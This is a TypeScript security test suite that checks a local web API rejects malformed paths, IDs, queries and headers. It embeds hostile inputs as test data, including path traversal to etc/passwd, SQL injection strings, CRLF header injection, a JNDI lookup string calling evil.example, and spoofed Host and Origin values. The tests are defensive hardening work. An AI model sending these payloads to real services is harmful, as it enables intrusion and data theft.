import { describe, expect, test } from 'bun:test'
import type { OpenApp } from '../support/open-app'
import { runCases, withVictim, type Case } from './run-cases'

let app: OpenApp
let id: string
withVictim((victim) => ({ app, id } = victim))

const get = (
  path: string,
  status: number | number[],
  code?: string | RegExp,
  headers?: Record<string, string>,
): Case => ({
  what: `${path.slice(0, 70)}${headers ? ` ${JSON.stringify(headers).slice(0, 60)}` : ''}`,
  method: 'GET',
  path,
  status,
  ...(code ? { code } : {}),
  ...(headers ? { send: { headers } } : {}),
})
const run = (cases: Case[]) => runCases(() => app, cases)

describe('an address', () => {
  run([
    ...[
      '/api',
      '/api/',
      '/api//clients',
      '/api/clients//',
      '//api/clients',
      '/API/clients',
      '/api/Clients',
      '/api/clients;a=b',
      '/api/clients%2f',
      '/api%2fclients',
      '/%61pi/clients',
      '/api/clients%00',
      '/api/clients%20',
      '/api/clients/..%2fclients',
      '/api/clients/x/y',
      '/api/clients/x/reports/y',
      '/api/openapi.json',
      '/api/openapi/ui',
      '/api/.env',
      '/api/debug',
      '/api/health/',
      '/api/clients.json',
    ].map((path) => get(path, path === '/api/health/' ? 200 : 404)),
    ...[
      'null',
      'undefined',
      '0',
      '-1',
      '*',
      ':id',
      '%25',
      '%',
      '%zz',
      '%c0%af',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '..%5c..%5c',
      '%252e%252e%252f',
      '__proto__',
      'constructor',
      'toString',
      "' OR '1'='1",
      '1;DROP TABLE clients',
      '%F0%9F%98%80',
      '%0d%0aSet-Cookie:%20a=b',
      '${7*7}',
      '{{7*7}}',
      '<script>',
      'x'.repeat(8000),
    ].flatMap((id) => [
      get(`/api/clients/${id}`, 404),
      get(`/api/reports/${id}`, 404),
      get(`/api/images/${id}`, 404),
    ]),
  ])

  test('of a client with extra characters finds no client', async () => {
    for (const end of ['%20', '%00', '%0a', '.', '%2e', ';', '%c2%a0', '%e2%80%8b'])
      expect([end, (await app.send('GET', `/api/clients/${id}${end}`)).status]).toEqual([end, 404])
    for (const same of [id.toUpperCase(), `{${id}}`, id.replaceAll('-', ''), encodeURIComponent(`"${id}"`)])
      expect((await app.send('GET', `/api/clients/${same}`)).status).toBe(404)
  })

  test('answers each method that it has, and names them for one that it has not', async () => {
    const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']
    for (const path of [
      '/api/clients',
      `/api/clients/${id}`,
      '/api/share',
      '/api/backup',
      '/api/health',
      '/api/analyze',
    ]) {
      for (const method of methods) {
        const answer = await app.send(method, path)
        expect([path, method, answer.status < 500]).toEqual([path, method, true])
        if (answer.status !== 405) continue
        const allowed = (answer.headers.get('allow') ?? '').split(', ')
        expect(allowed).not.toContain(method)
        expect(allowed.length).toBeGreaterThan(0)
      }
    }
    await app.createClient('Victim')
  })

  test('answers HEAD with the headers of GET and no body', async () => {
    for (const path of ['/api/clients', '/api/health', '/api/reports']) {
      const [whole, head] = [await app.send('GET', path), await app.send('HEAD', path)]
      expect([head.status, head.text, head.headers.get('content-type')]).toEqual([
        whole.status,
        '',
        whole.headers.get('content-type'),
      ])
    }
  })
})

describe('a list', () => {
  const wrong = [
    '+5',
    '5 ',
    '05',
    '٥',
    '５',
    '1e2',
    '0x5',
    '5.0',
    '501',
    '9'.repeat(30),
    '-0',
    'true',
    '[]',
    '%00',
    'Infinity',
  ]
  const cursors = [
    'W10',
    'bnVsbA',
    'e30',
    'WyJjbGllbnRzIixudWxsLDFd',
    'WyJjbGllbnRzIiwiYSJd',
    '%00',
    'A'.repeat(9000),
    '....',
    '-1',
    '1',
  ]
  run([
    ...['/api/clients', '/api/reports', '/api/notifications'].flatMap((path) =>
      wrong.map((limit) => get(`${path}?limit=${encodeURIComponent(limit)}`, 422, 'invalid_number:limit')),
    ),
    ...['/api/clients', '/api/reports'].flatMap((path) =>
      cursors.map((cursor) => get(`${path}?cursor=${cursor}`, 422, 'invalid_cursor')),
    ),
    ...['%ff', '%E0%A4%A', '%ud800', '%', '%ed%a0%80', 'a%zz', '%f0%9f'].map((q) =>
      get(`/api/clients?q=${q}`, 400, 'malformed_query'),
    ),
    get('/api/clients?%ff=1', 400, 'malformed_query'),
    get('/api/clients?q=%00a', 422, 'invalid_characters:q'),
    ...['%C3%A9', '100%25', '%EF%BF%BD', '+'].map((q) => get(`/api/clients?q=${q}`, 200)),
    get(`/api/clients?q=${'%F0%9F%98%80'.repeat(201)}`, 422, 'too_long:q'),
    get('/api/clients?q[]=x&q.a=y&__proto__[x]=1&constructor=1', 200),
    get(`/api/clients?${'a=1&'.repeat(5000)}`, 200),
    get('/api/clients?sort=id;DROP TABLE clients&order=desc--', 200),
    get('/api/reports?latest=type&latest=x', 422),
    get('/api/reports?latest=', 422),
    get('/api/reports/nope/rows', 422),
    ...[
      '-1',
      '1e5',
      '0x1',
      '1-',
      '-',
      '2-1',
      '1-99999999',
      '1,,2',
      'a',
      '%00',
      '1'.repeat(40),
      '1,'.repeat(60_000),
    ].map((rows) => get(`/api/reports/nope/rows?rows=${rows}`, [404, 422])),
  ])
})

describe('a header', () => {
  const path = '/api/clients'
  run([
    ...[
      'localhost.evil.example:3000',
      '127.0.0.1.evil.example:3000',
      '127.0.0.1:3000@evil.example',
      'evil.example:3000',
      '127.0.0.1:3000:3000',
      '0.0.0.0:3000',
      '127.1:3000',
      '2130706433:3000',
      '0x7f000001:3000',
      '[::ffff:127.0.0.1]:3000',
      '127.0.0.1:03000x',
      '127.0.0.1:3000/',
      '127.0.0.1:3000?',
      'localhost.:3000',
      '127.0.0.1:3000#',
      '127.0.0.1',
      'xn--localhost-:3000',
    ].map((host) => get(path, 421, 'wrong_host', { host })),
    ...['LOCALHOST:3000', 'localhost:3000', '[::1]:3000'].map((host) => get(path, 200, undefined, { host })),
    ...[
      'Via',
      'X-Forwarded-Port',
      'X-Original-Host',
      'CF-Ray',
      'X-Client-IP',
      'X-Envoy-Internal',
      'Tailscale-User-Login',
      'Fly-Client-IP',
      'X-Forwarded',
    ].map((name) => get(path, 403, 'proxy_needs_password', { [name]: '1' })),
    ...[
      'https://127.0.0.1:3000',
      'http://127.0.0.1:3000.evil.example',
      'http://127.0.0.1:3001',
      'http://localhost',
      'file://',
      'null',
      'chrome-extension://abc',
      'http://127.0.0.1:3000/',
      'http://[::1]:3000',
      ' http://evil.example',
      'HTTP://127.0.0.1:3000',
    ].map((origin) => get(path, 403, 'cross_site', { origin })),
    ...['same-site', 'cross-site', 'CROSS-SITE', 'other', 'same-origin, cross-site'].map((site) =>
      get(path, 403, 'cross_site', { 'sec-fetch-site': site }),
    ),
    get(path, 200, undefined, { accept: 'text/html;q=0, */*;q=0' }),
    get(path, 200, undefined, { 'accept-encoding': 'br;q=0, gzip;q=0, identity;q=0' }),
    get(path, 200, undefined, { 'if-none-match': '*', 'if-match': 'x', range: 'bytes=0-0' }),
    get(path, 200, undefined, {
      'x-http-method-override': 'DELETE',
      'x-original-url': '/api/backup',
      'x-rewrite-url': '/api/backup',
    }),
    get(path, 200, undefined, {
      'x-request-id': 'mine\u00e9',
      'user-agent': '${jndi:ldap://evil.example/a}',
    }),
  ])

  test('cannot choose the id of its request, or send anyone elsewhere', async () => {
    const { headers, json } = await app.send('GET', '/api/clients/nope', {
      headers: { 'x-request-id': 'chosen', referer: 'https://evil.example/' },
    })
    expect([headers.get('x-request-id'), json.requestId]).not.toContain('chosen')
    expect(headers.get('location') ?? headers.get('access-control-allow-origin')).toBeNull()
  })
})
